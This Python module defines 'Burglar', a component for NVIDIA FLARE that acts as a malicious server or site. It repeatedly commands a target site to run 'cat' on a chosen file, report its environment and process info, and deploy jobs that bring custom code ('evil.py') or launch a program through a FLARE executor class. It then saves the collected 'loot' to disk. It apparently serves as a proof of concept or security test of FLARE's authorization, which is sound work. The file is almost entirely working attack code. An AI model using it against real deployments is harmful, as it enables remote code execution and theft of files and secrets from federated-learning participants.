"""A part of a dishonest server, or of a dishonest site, which commands another site to show its files.

And to run code.
"""

from __future__ import annotations

import io
import json
import threading
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_context import FLContext
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, ReturnCode
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, SysCommandTopic, TrainingTopic, new_cell_message

# Nobody is there yet, or has not begun to listen.
WAIT = {
    ReturnCode.TARGET_UNREACHABLE,
    ReturnCode.PROCESS_EXCEPTION,
    ReturnCode.TIMEOUT,
    ReturnCode.COMM_ERROR,
    ReturnCode.UNAUTHENTICATED,
}


class Burglar(FLComponent):
    """Asks as soon as FLARE runs, again and again until there is an answer, and writes down what it got.

    With ``patience`` that is also that there was none, so many times.
    """

    def __init__(self, target: str, file: str, out: str, patience: int = 0) -> None:
        super().__init__()
        self._target, self._out, self._patience = target, Path(out), patience
        self._questions = {
            "shell": (CellChannel.CLIENT_MAIN, "admin", Message(SysCommandTopic.SHELL, f"cat {file}")),
            "environment": (CellChannel.CLIENT_MAIN, "admin", Message(SysCommandTopic.REPORT_ENV, "")),
            "job": (CellChannel.CLIENT_MAIN, "admin", Message(TrainingTopic.DEPLOY, _job())),
            "class": (CellChannel.CLIENT_MAIN, "admin", Message(TrainingTopic.DEPLOY, _other_class())),
            "processes": ("_net_manager", "process_info", {}),
        }

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        if event_type == EventType.SYSTEM_START:
            threading.Thread(target=self._try, args=(fl_ctx.get_engine(),), daemon=True).start()

    def _try(self, engine) -> None:
        with ThreadPoolExecutor() as together:
            answers = together.map(
                lambda question: self._ask_often(engine, *question), self._questions.values()
            )
            loot = dict(zip(self._questions, answers, strict=True))
        self._out.with_suffix(".part").write_text(json.dumps(loot))
        self._out.with_suffix(".part").rename(self._out)

    def _ask_often(self, engine, *question) -> str:
        silences = 0
        while (answer := self._ask(engine, *question)) in WAIT:
            silences += answer == ReturnCode.TIMEOUT
            if silences == self._patience > 0:
                return answer
            time.sleep(0.5)
        return answer

    def _ask(self, engine, channel, topic, payload) -> str:
        if (cell := engine.get_cell()) is None:
            return ReturnCode.TARGET_UNREACHABLE
        reply = cell.core_cell.send_request(channel, topic, self._target, new_cell_message({}, payload), 3.0)
        code = reply.get_header(MessageHeaderKey.RETURN_CODE)
        body = reply.payload.body if isinstance(reply.payload, Message) else reply.payload
        return str(body) if code in (None, ReturnCode.OK) else code


def _job() -> bytes:
    """A job that brings code."""
    return _packed({"format_version": 2, "executors": []}, {"custom/evil.py": ""})


def _other_class() -> bytes:
    """A job that brings nothing and names a class of FLARE, which would run a program."""
    path = "nvflare.app_common.executors.client_api_launcher_executor.ClientAPILauncherExecutor"
    executor = {"tasks": ["none"], "executor": {"path": path, "args": {"pipe_id": "pipe"}}}
    return _packed({"format_version": 2, "executors": [executor]}, {})


def _packed(settings: dict, more: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in {"config/config_fed_client.json": json.dumps(settings), **more}.items():
            archive.writestr(name, text)
    return buffer.getvalue()
